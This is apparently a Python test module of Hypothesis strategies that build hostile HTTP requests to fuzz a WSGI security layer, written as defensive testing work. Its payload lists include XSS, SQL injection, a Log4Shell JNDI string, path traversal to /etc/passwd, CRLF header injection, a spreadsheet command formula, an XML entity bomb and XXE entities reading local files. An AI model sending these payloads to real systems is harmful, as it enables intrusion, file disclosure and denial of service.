"""Hypothesis strategies for hostile requests (issue 14, "Hostile input, the whole stack").

Values are WSGI strings: bytes decoded as latin-1 (PEP 3333), so "\\xc0\\xaf" in a path is
the overlong UTF-8 encoding of "/" exactly as a server hands it over. ``{access}``,
``{request}``, ``{secret}``, ``{basic}``, ``{client}``, ``{keyid}`` and ``{refresh}`` in
a value are replaced with the partner's real secrets by the harness, so a fuzzed header can
carry a real token in a wrong place (and the property is that it is never echoed).

Mostly ``sampled_from`` over hand-picked hostile values plus small generated text: cheap to
draw, so ten thousand examples stay within a few seconds of CPU.
"""

from __future__ import annotations

import json
import os
import random
from urllib.parse import quote

from hypothesis import strategies as st

# -- building blocks ----------------------------------------------------------------
#
# Drawing a request field by field costs Hypothesis about a millisecond; ten thousand
# examples would spend most of their CPU there. So the fields that need generated text
# come from pools built once from a seeded Random (deterministic), and Hypothesis draws
# an index into each: cheap, reproducible, and shrinking moves toward the pool's start,
# where the simplest values are.

# Larger runs (WSGISEC_FUZZ_EXAMPLES) get larger pools, so they see more distinct values.
POOL_SIZE = max(1500, int(os.environ.get("WSGISEC_FUZZ_EXAMPLES") or 0) // 5)
_rng = random.Random(14)


def _latin1(rng, size=24) -> str:
    return rng.randbytes(rng.randint(0, size)).decode("latin-1")


def _printable(rng, size=24) -> str:
    return "".join(chr(rng.randint(0x20, 0x7e)) for _ in range(rng.randint(0, size)))


def _pool(build, size=POOL_SIZE):
    """``size`` values of ``build(rng)``, shortest first (Hypothesis shrinks toward them)."""
    values = {build(_rng) for _ in range(size)}
    return sorted(values, key=lambda value: (len(value), value))


latin1 = st.sampled_from(_pool(_latin1))
printable = st.sampled_from(_pool(_printable))

#: Invalid UTF-8, overlong encodings, surrogates, NUL and CR/LF, as latin-1 WSGI strings.
BAD_BYTES = ["\xff", "\xfe\xff", "\xc0\xaf", "\xe0\x80\xaf", "\xf0\x80\x80\xaf", "\xc0\xae\xc0\xae",
             "\xc3\x28", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\x00", "\r\n", "\n", "\x1b[2J", "\x7f",
             "%00", "%ff", "%c0%af", "%e0%80%af", "%ed%a0%80", "%", "%zz", "%%", "%0d%0a", "+", "\\"]

PAYLOADS = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
            "' OR 1=1--", "1; DROP TABLE items", "{{7*7}}", "${jndi:ldap://x}", "../../etc/passwd",
            "javascript:alert(1)", "\r\nSet-Cookie: evil=1", "=cmd|' /C calc'!A0", "\u202e", "\ufeff",
            "A" * 5000, "9" * 5000, "1e309", "-1", "NaN", "0x10", "Widget", "Wid", "O'Brien"]


def _hostile(rng) -> str:
    how = rng.randint(0, 3)
    if how == 0:
        return rng.choice(PAYLOADS)
    if how == 1:
        return rng.choice(BAD_BYTES)
    if how == 2:
        return _latin1(rng)
    return "".join(rng.choice(BAD_BYTES + PAYLOADS[:6]) for _ in range(rng.randint(1, 4))) + _latin1(rng, 8)


HOSTILE = _pool(_hostile)
hostile = st.sampled_from(HOSTILE)

# -- where: method, path, query -----------------------------------------------------

KNOWN_PATHS = ["/", "/healthz", "/api/items", "/api/items/1", "/api/items/0", "/api/items/99999999999999",
               "/api/whoami", "/api/lookup", "/api/crash", "/search", "/api/items.xml", "/api/orders.xml",
               "/api/export.csv", "/notes", "/oauth/token", "/oauth/revoke", "/oauth/introspect",
               "/_wsgisec/reports", "/_wsgisec/reports/browser", "/_wsgisec/dashboard",
               "/_wsgisec/dashboard.json", "/.well-known/security.txt", "/api/admin", "/api/items/"]

methods = st.sampled_from(["GET", "GET", "GET", "POST", "POST", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS",
                           "TRACE", "CONNECT", "PROPFIND", "get", "G\x00T", "X" * 300])


def _path(rng) -> str:
    base = rng.choice(KNOWN_PATHS)
    how = rng.randint(0, 5)
    if how <= 2:
        return base
    if how == 3:
        return base + _hostile(rng)
    if how == 4:
        return "/" + rng.choice(["..", ".", "", "%2e%2e", "\xc0\xae\xc0\xae", "api;x=1"]) + base
    return "/" + _latin1(rng) + "/" * rng.randint(0, 2) + rng.choice(["a" * 5000, ""])


_PATHS = _pool(_path)


def paths():
    return st.sampled_from(_PATHS)


QUERY_NAMES = ["q", "limit", "name", "next", "debug", "access_token", "token", "q[]", "", "=", "a" * 300]
VALID_VALUES = {"q": ["Wid", "Gadget", ""], "limit": ["1", "5", "100"], "name": ["Widget", "O%27Brien"],
                "next": ["/notes", "/"]}


def _pair(name, value):
    return name + "=" + value


def _query(rng) -> str:
    how = rng.randint(0, 6)
    if how == 0:
        return ""
    if how == 1:  # well-formed and allowed: reaches the app
        name = rng.choice(list(VALID_VALUES))
        return _pair(name, rng.choice(VALID_VALUES[name]))
    if how == 2:  # thousands of parameters
        return rng.choice(["q", "a", "limit"]) + "=1" + "&q=1" * rng.choice([101, 1000, 5000])
    if how == 3:
        return _latin1(rng)
    return "&".join(_pair(rng.choice(QUERY_NAMES), _hostile(rng)) for _ in range(rng.randint(1, 3)))


_QUERIES = _pool(_query)


def queries():
    return st.sampled_from(_QUERIES)


# -- headers ------------------------------------------------------------------------

ACCEPTS = ["*/*", "application/json", "text/html", "application/problem+json", "text/plain;q=abc",
           "*/*;q=0.5," * 2000, "text/html;q=1;q=2;level=" + "1" * 1000, "a/b/c, ,,, ;", "\xff\xfe/\x00",
           "application/xml;q=0, text/html;q=0, */*;q=0", ", ".join(f"type{n}/sub{n};q=0.{n % 10}" for n in range(500)),
           "text/*;charset=\r\nX: y", ""]

CONTENT_TYPES = ["application/json", "application/json; charset=utf-8", "application/json; charset=bogus",
                 "application/json; charset=\"", "application/json;" + "x=y;" * 500, "application/xml",
                 "text/xml; charset=utf-16", "application/x-www-form-urlencoded", "multipart/form-data",
                 "multipart/form-data; boundary=", "multipart/form-data; boundary=" + "b" * 200,
                 "multipart/form-data; boundary=\"unterminated", "application/vnd.evil+json", "a/b; c",
                 ";;;", "\xff/\xfe", "application/csp-report", "application/reports+json", "text/plain",
                 "application/json\r\nX-Injected: 1", ""]

COOKIES = ["session=abc", "session=" + "a" * 10000, "=;=;;", "session=\xc3\x28", "session=\xc0\xaf",
           "session=a; session=b", "$Version=1; session=x", "session=\"unterminated", "a" * 5000,
           "session={access}", "csrf_token=" + "A" * 200 + "; session=x", "session=a\x00b"]

AUTHORIZATIONS = ["Bearer", "Bearer ", "Bearer " + "A" * 5000, "Bearer {access}x", "Bearer {access} extra",
                  "Bearer {refresh}", "Bearer {request}", "bearer {access}", "Basic !!!", "Basic {basic}",
                  "Basic " + "QQ==" * 100, "Basic Og==", "Digest username=\"x\"", "Bearer \xff\xfe",
                  "Bearer {access}, Bearer {access}", "Negotiate " + "A" * 100, "{secret}", "Bearer a\r\nb"]

SIGNATURE_INPUTS = ["sig1=()", "sig1=(\"@method\")", "sig1=(\"@method\");created=abc", "sig1=" + "(" * 1000,
                    "sig1=(\"@method\" \"@path\");created=1;keyid=\"{keyid}\";nonce=\"nnnnnnnnnnnn\"",
                    "sig1=(\"@method\";sf);created=1", "sig1=(\"@signature-params\");created=1",
                    ",".join(f"s{n}=()" for n in range(1000)), "\xff", "sig1=(\"@query-param\";name=\"q\")",
                    "sig1=(\"x-request-token\" \"x-request-token\");created=1;keyid=\"{keyid}\"",
                    "sig1=(\"@method\");created=99999999999999999999;keyid=\"{keyid}\";nonce=\"a\"", ""]

SIGNATURES = ["sig1=:AAAA:", "sig1=:" + "A" * 10000 + ":", "sig1=:!!!:", "sig1=AAAA", "sig1=:{access}:",
              ",".join(f"s{n}=:AA==:" for n in range(1000)), "sig1=:\xff:", "sig1=?1", ""]

HEADER_VALUES = {
    "HTTP_ACCEPT": st.sampled_from(ACCEPTS),
    "HTTP_ACCEPT_CHARSET": st.sampled_from(["utf-8", "bogus", "*;q=abc", "\xff"]),
    "HTTP_ACCEPT_LANGUAGE": st.sampled_from(["en", "x" * 3000, "*;q=-1"]),
    "HTTP_COOKIE": st.sampled_from(COOKIES),
    "CONTENT_TYPE": st.sampled_from(CONTENT_TYPES),
    "HTTP_AUTHORIZATION": st.sampled_from(AUTHORIZATIONS),
    "HTTP_PROXY_AUTHORIZATION": st.sampled_from(["Basic {basic}", "Bearer {access}", "x"]),
    "HTTP_SIGNATURE_INPUT": st.sampled_from(SIGNATURE_INPUTS),
    "HTTP_SIGNATURE": st.sampled_from(SIGNATURES),
    "HTTP_X_REQUEST_TOKEN": st.sampled_from(["", "x", "{request}x", "a.b.c", "{access}", "\xff" * 10,
                                             "A" * 5000, "{request}.{request}"]),
    "HTTP_CONTENT_DIGEST": st.sampled_from(["sha-256=:AAAA:", "md5=:x:", "sha-256=", "sha-512=:" + "A" * 5000 + ":",
                                            "sha-256=:AAAA:, sha-256=:BBBB:"]),
    "HTTP_HOST": st.sampled_from(["localhost", "evil.example", "localhost:99999", "[::1", "[::1]:443",
                                  "localhost\r\nX: y", "", "LOCALHOST.", "127.0.0.1:8080", "\xff"]),
    "HTTP_X_FORWARDED_PROTO": st.sampled_from(["https", "http", "https, http", "HTTPS", "", "gopher", None]),
    "HTTP_X_FORWARDED_FOR": st.sampled_from(["203.0.113.9", "::1, 127.0.0.1", "not-an-ip", "1.1.1.1," * 1000,
                                             "[2001:db8::1]", ""]),
    "HTTP_FORWARDED": st.sampled_from(["for=1.2.3.4;proto=https", "proto=http", "for=\"[::1]:80\"", ";;;=",
                                       "host=evil.example;proto=https", "for=" + "x" * 3000]),
    "HTTP_X_FORWARDED_HOST": st.sampled_from(["evil.example", "localhost", ""]),
    "HTTP_ORIGIN": st.sampled_from(["https://evil.example", "null", "https://localhost", "\xff"]),
    "HTTP_REFERER": st.sampled_from(PAYLOADS + BAD_BYTES),
    "HTTP_USER_AGENT": st.sampled_from(PAYLOADS + BAD_BYTES),
    "HTTP_X_BIG": st.sampled_from(["a" * 20000, "b" * 8200]),
    "HTTP_X_INJECTED": st.sampled_from(["a\r\nSet-Cookie: evil=1", "\r\n\r\n<script>alert(1)</script>", "\x00"]),
    "HTTP_TRANSFER_ENCODING": st.sampled_from(["chunked", "gzip, chunked", "identity", "\xff"]),
    "HTTP_CONTENT_ENCODING": st.sampled_from(["gzip", "br", "x"]),
    "HTTP_X_HTTP_METHOD_OVERRIDE": st.sampled_from(["DELETE", "PUT"]),
    "HTTP_RANGE": st.sampled_from(["bytes=0-", "bytes=" + "0-1," * 1000]),
}


def _flat(pools):
    """Every (name, value) of the sampled pools, as one list: one draw per header."""
    pairs = []
    for name, pool in pools.items():
        values = getattr(pool, "elements", None)  # a sampled_from strategy
        pairs += [(name, value) for value in values] if values is not None else []
    return pairs


HEADER_PAIRS = _flat(HEADER_VALUES)


def _headers(rng) -> dict:
    found = {}
    for name, value in rng.sample(HEADER_PAIRS, rng.randint(0, 4)) + rng.sample(HEADER_PAIRS, rng.randint(0, 1)):
        if name in found and value is not None and found[name] is not None:
            value = found[name] + ", " + value  # a repeated header, joined as servers join them
        found[name] = value
    if rng.randint(0, 3) == 0:  # generated text where no pool reaches
        found[rng.choice(["HTTP_REFERER", "HTTP_USER_AGENT", "HTTP_COOKIE", "HTTP_ACCEPT"])] = _hostile(rng)
    return found


_HEADERS = sorted((_headers(_rng) for _ in range(POOL_SIZE)), key=len)


def headers():
    """A few hostile headers (a fresh dict each time: the harness fills in secrets)."""
    return st.sampled_from(_HEADERS).map(dict)


# -- bodies -------------------------------------------------------------------------

def _nested(depth, open_, close, inner=""):
    return open_ * depth + inner + close * depth


XML_BOMB = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            + "".join(f'<!ENTITY lol{n} "{("&lol%s;" % (n - 1 if n > 1 else "")) * 10}">' for n in range(1, 10))
            + ']><order><sku>&lol9;</sku></order>')
XML_BODIES = [
    "<order><sku>AB-1</sku><quantity>2</quantity></order>", XML_BOMB,
    '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><order><sku>&x;</sku></order>',
    '<!DOCTYPE o [<!ENTITY a "' + "A" * 50000 + '">]><order><sku>' + "&a;" * 50 + "</sku></order>",
    '<?xml version="1.0"?><!DOCTYPE o SYSTEM "http://evil.example/x.dtd"><order/>',
    _nested(5000, "<a>", "</a>"), "<order>" + "<sku>A</sku>" * 20000 + "</order>",
    "<order><sku><![CDATA[<script>alert(1)</script>]]></sku></order>", "<order><sku>AB-1</sku>",
    "<?xml version=\"1.0\" encoding=\"utf-7\"?><order/>", "<order xmlns:xi=\"http://www.w3.org/2001/XInclude\">"
    "<xi:include href=\"file:///etc/passwd\"/></order>", "<order><sku>\xc3\x28</sku></order>", "<?pi x?><order/>",
]
JSON_BODIES = [
    '{"name": "Widget 2", "price": 1}', '{"name": "O\'Brien", "price": 0}', _nested(100000, "[", "]"),
    _nested(40, '{"a":', "}", "1"), _nested(1000, '{"a":', "}", "1"), '{"name": "x", "name": "y"}',
    '{"name": "' + "9" * 5000 + '"}', '{"price": ' + "9" * 5000 + "}", '{"price": 1e999}', '{"price": NaN}',
    '{"name": "\\ud800"}', '{"name": "\xc3\x28"}', '\xef\xbb\xbf{"name": "x"}', '{"name": "<script>alert(1)</script>"}',
    "[" + ",".join(["1"] * 50000) + "]", '{"name": null}', "", "{", '{"kind": "abuse", "description": "x"}',
    json.dumps({"kind": "other", "description": "d", "evidence": {f"e{n}": "Bearer x" for n in range(30)}}),
    '{"kind": "other", "description": "x", "incident_id": "<script>alert(1)</script>"}',
]
FORM_BODIES = ["grant_type=client_credentials", "grant_type=client_credentials&client_id={client}&client_secret=x",
               "grant_type=refresh_token&refresh_token={refresh}x", "token={access}", "token=" + "A" * 5000,
               "&".join(f"a{n}=1" for n in range(5000)), "note=<script>alert(1)</script>", "note=%ff%fe",
               "grant_type=password&username=a&password=b", "grant_type=" + "%" * 100, "=&=&=", "a=1;b=2"]


def multipart(boundary="XyZ", parts=None, closing=True, newline="\r\n"):
    parts = parts if parts is not None else [('form-data; name="note"', "hello")]
    chunks = []
    for disposition, content in parts:
        chunks.append(f"--{boundary}{newline}Content-Disposition: {disposition}{newline}{newline}{content}{newline}")
    return "".join(chunks) + (f"--{boundary}--{newline}" if closing else "")


MULTIPART_BODIES = [
    multipart(), multipart(closing=False), multipart(newline="\n"), multipart(parts=[]),
    multipart(parts=[('form-data; name="f"; filename="../../etc/passwd"', "x")]),
    multipart(parts=[('form-data; name="note"', "a")] * 2000),
    multipart(parts=[("form-data; name=" + "n" * 9000, "x")]), "--XyZ\r\n\r\n\r\n--XyZ--",
    multipart(parts=[('form-data; name="note"', multipart("inner"))]), "preamble\r\n" + multipart() + "epilogue",
    multipart(parts=[('form-data; name="note"; filename*=UTF-8\'\'%c0%af', "x")]), "--XyZ--", "--",
]

BODY_KINDS = {
    "json": (JSON_BODIES, ["application/json", "application/json; charset=utf-8",
                           "application/json; charset=latin-1", "application/problem+json"]),
    "xml": (XML_BODIES, ["application/xml", "text/xml", "application/xml; charset=utf-16"]),
    "form": (FORM_BODIES, ["application/x-www-form-urlencoded"]),
    "multipart": (MULTIPART_BODIES, ["multipart/form-data; boundary=XyZ", "multipart/form-data; boundary=\"XyZ\"",
                                     "multipart/form-data; boundary=Other", "multipart/form-data",
                                     "multipart/mixed; boundary=XyZ"]),
    "bytes": (None, CONTENT_TYPES),
}

BODY_PATHS = ["/api/items", "/api/orders.xml", "/notes", "/_wsgisec/reports", "/_wsgisec/reports/browser",
              "/oauth/token", "/oauth/revoke", "/oauth/introspect", "/api/items/1", "/api/whoami"]


def _encode(text: str) -> bytes:
    return text.encode("latin-1") if all(ord(c) < 256 for c in text) else text.encode("utf-8")


def _body(rng) -> tuple:
    """(content type, body bytes, CONTENT_LENGTH or None, wsgi.input_terminated)."""
    texts, types = BODY_KINDS[rng.choice(sorted(BODY_KINDS))]
    body = _encode(rng.choice(texts)) if texts else rng.randbytes(rng.randint(0, 200))
    # A lying Content-Length: "more" is a truncated body (the input ends first).
    lie = rng.choice(["right", "right", "right", "missing", "more", "less", "zero", "huge"])
    length = {"right": str(len(body)), "missing": None, "more": str(len(body) + rng.randint(1, 5000)),
              "less": str(max(0, len(body) - rng.randint(1, 50))), "zero": "0", "huge": "99999999999999"}[lie]
    return rng.choice(types), body, length, lie == "missing" and rng.random() < 0.5


_BODIES = sorted({_body(_rng) for _ in range(POOL_SIZE)}, key=lambda found: len(found[1]))


def bodies():
    return st.sampled_from(_BODIES)


# -- requests that reach the legacy app ---------------------------------------------

#: Declared routes (examples/partner_api.openapi.yaml) with queries the allowlist admits.
ROUTES = [("GET", "/api/items", ["", "q=Wid", "limit=5", "q=Gadget&limit=1", "q=O%27Brien"]),
          ("GET", "/api/items/1", [""]), ("GET", "/api/items/3", [""]), ("GET", "/api/items/77", [""]),
          ("GET", "/api/whoami", [""]), ("GET", "/api/lookup", ["name=Widget", "name=O%27Brien"]),
          ("GET", "/api/crash", [""]), ("GET", "/api/items.xml", ["", "q=Wid"]), ("GET", "/api/export.csv", [""]),
          ("HEAD", "/api/items", [""]), ("GET", "/search", ["q=Wid", "next=/notes"]), ("GET", "/", [""]),
          ("GET", "/healthz", [""]), ("GET", "/notes", [""])]
#: Headers no layer routes on: hostile values here must still come back clean.
SIDE_HEADERS = ["HTTP_ACCEPT", "HTTP_ACCEPT_CHARSET", "HTTP_ACCEPT_LANGUAGE", "HTTP_COOKIE", "HTTP_REFERER",
                "HTTP_USER_AGENT", "HTTP_X_BIG", "HTTP_ORIGIN", "HTTP_RANGE", "HTTP_PROXY_AUTHORIZATION"]
SIDE_PAIRS = [pair for pair in HEADER_PAIRS if pair[0] in SIDE_HEADERS]


def _deep_request(rng) -> tuple:
    """(method, path, query, headers): a declared route, an admitted query, side headers."""
    method, path, choices = rng.choice(ROUTES)
    query = rng.choice(choices)
    if path in ("/api/items", "/search", "/api/items.xml") and rng.random() < 0.5:
        text = rng.choice(PAYLOADS[:12]) if rng.random() < 0.5 else _printable(rng)
        query = "q=" + quote(text, safe="")
    return method, path, query, tuple(rng.sample(SIDE_PAIRS, rng.randint(0, 3)))


_DEEP_REQUESTS = sorted({_deep_request(_rng) for _ in range(POOL_SIZE)},
                        key=lambda found: (len(found[3]), len(found[2])))


def deep_requests():
    return st.sampled_from(_DEEP_REQUESTS).map(lambda found: (*found[:3], dict(found[3])))


def any_requests():
    """(method, path, query, headers): anything at all."""
    return st.tuples(methods, paths(), queries(), headers())


#: Where each kind of body is declared, so a signed one reaches the layer that parses it.
VALID_BODIES = {
    "/api/items": ['{"name": "Widget 2", "price": 1}', '{"name": "Tom & Jerry mug", "price": 4.5}', '{"name": "X"}'],
    "/api/orders.xml": ["<order><sku>AB-1</sku><quantity>2</quantity></order>", "<order><sku>Z</sku></order>"],
    "/_wsgisec/reports": ['{"kind": "other", "description": "fuzz"}',
                          '{"kind": "abuse", "description": "x", "evidence": {"token": "Bearer abc"}}'],
    "/notes": ["note=hello", multipart()],
}
BODY_ROUTES = [("/api/items", "json"), ("/api/items", "json"), ("/api/orders.xml", "xml"),
               ("/_wsgisec/reports", "json"), ("/notes", "form"), ("/notes", "multipart")]


def _deep_body(rng) -> tuple:
    """(path, content type, body, CONTENT_LENGTH, terminated): a declared media type on its
    route, the right length (mostly), the body valid or from the hostile pools."""
    path, kind = rng.choice(BODY_ROUTES)
    texts, types = BODY_KINDS[kind]
    body = _encode(rng.choice(VALID_BODIES[path] if rng.random() < 0.5 else texts))
    length = rng.choice([str(len(body))] * 4 + [None, str(len(body) + 7)])
    return path, types[0], body, length, length is None and rng.random() < 0.5


_DEEP_BODIES = sorted({_deep_body(_rng) for _ in range(POOL_SIZE)}, key=lambda found: len(found[2]))


def deep_bodies():
    return st.sampled_from(_DEEP_BODIES)
